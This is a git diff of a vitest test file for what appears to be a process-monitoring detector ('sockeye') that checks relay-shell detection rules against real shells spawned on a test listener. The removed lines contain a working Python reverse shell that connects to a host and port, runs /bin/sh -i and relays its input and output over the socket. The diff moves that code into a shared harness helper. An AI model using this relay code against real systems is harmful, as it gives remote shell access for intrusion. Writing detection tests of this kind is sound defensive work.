@@ -6,14 +6,14 @@
  * port and the relay program.
  */
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
-import { Engine, ProcHostView, ProcessTable, builtinRules, type Finding } from "sockeye";
+import { builtinRules, type Finding } from "sockeye";
 import net from "node:net";
 import http from "node:http";
 import { spawnSync } from "node:child_process";
 import { mkdtempSync, readFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
-import { PYTHON, Session, commandingListener, kernelTier, run } from "./harness.js";
+import { PYTHON, PYTHON_PIPE_RELAY, Session, attachEngine, collectingListener, commandingListener, kernelTier, run } from "./harness.js";
 
 const tier = kernelTier();
 
@@ -24,39 +24,15 @@ interface RelayFinding extends Finding {
   };
 }
 
-
-/** A listener that only collects what arrives (the output half of a telnet pair). */
-async function collectingListener(host: string): Promise<{ port: number; received: () => string; close(): Promise<void> }> {
-  const sockets = new Set<net.Socket>();
-  let got = "";
-  const server = net.createServer((s) => {
-    sockets.add(s);
-    s.on("error", () => {});
-    s.on("data", (d: Buffer) => (got += d.toString()));
-  });
-  await new Promise<void>((resolve) => server.listen(0, host, resolve));
-  return {
-    port: (server.address() as net.AddressInfo).port,
-    received: () => got,
-    close: () => new Promise((resolve) => { for (const s of sockets) s.destroy(); server.close(() => resolve()); }),
-  };
-}
-
 describe.runIf(tier.run)("kernel: RELAY-001 and RELAY-002 on real relay shells and command relays", () => {
   let session: Session;
-  let engine: Engine;
   const findings: RelayFinding[] = [];
   const dir = mkdtempSync(join(tmpdir(), "sockeye-relay-"));
 
   beforeAll(async () => {
     session = await Session.open();
-    const table = new ProcessTable({ host: new ProcHostView() });
-    table.seedFromProc();
     // Every built-in rule, RELAY-002 (opt-in, off in the default configuration) included.
-    engine = new Engine({ rules: builtinRules({ commandRelay: true }), processes: table });
-    session.sensor.subscribe((events) => {
-      for (const e of events) for (const f of engine.handle(e)) findings.push(f as unknown as RelayFinding);
-    });
+    attachEngine(session, findings, builtinRules({ commandRelay: true }));
   });
   afterAll(() => session?.close());
 
@@ -108,21 +84,9 @@ describe.runIf(tier.run)("kernel: RELAY-001 and RELAY-002 on real relay shells a
     },
     {
       name: "python subprocess.Popen(['/bin/sh','-i'], stdin=PIPE, stdout=PIPE) relayed to a socket",
-      cmd: (h, p) => `${PYTHON} -c '
-import socket,subprocess,threading,os
-s=socket.create_connection(("${h}",${p}))
-c=subprocess.Popen(["/bin/sh","-i"],stdin=subprocess.PIPE,stdout=subprocess.PIPE,stderr=subprocess.STDOUT)
-def up():
-    while True:
-        d=os.read(c.stdout.fileno(),4096)
-        if not d: break
-        s.sendall(d)
-threading.Thread(target=up,daemon=True).start()
-while True:
-    d=s.recv(4096)
-    if not d: break
-    c.stdin.write(d); c.stdin.flush()
-c.wait()'`,
+      cmd: (h, p) => `${PYTHON} -c '${PYTHON_PIPE_RELAY}
+import socket
+pipe_relay(socket.create_connection(("${h}",${p})))'`,
       relay: ["python3"],
     },
     {
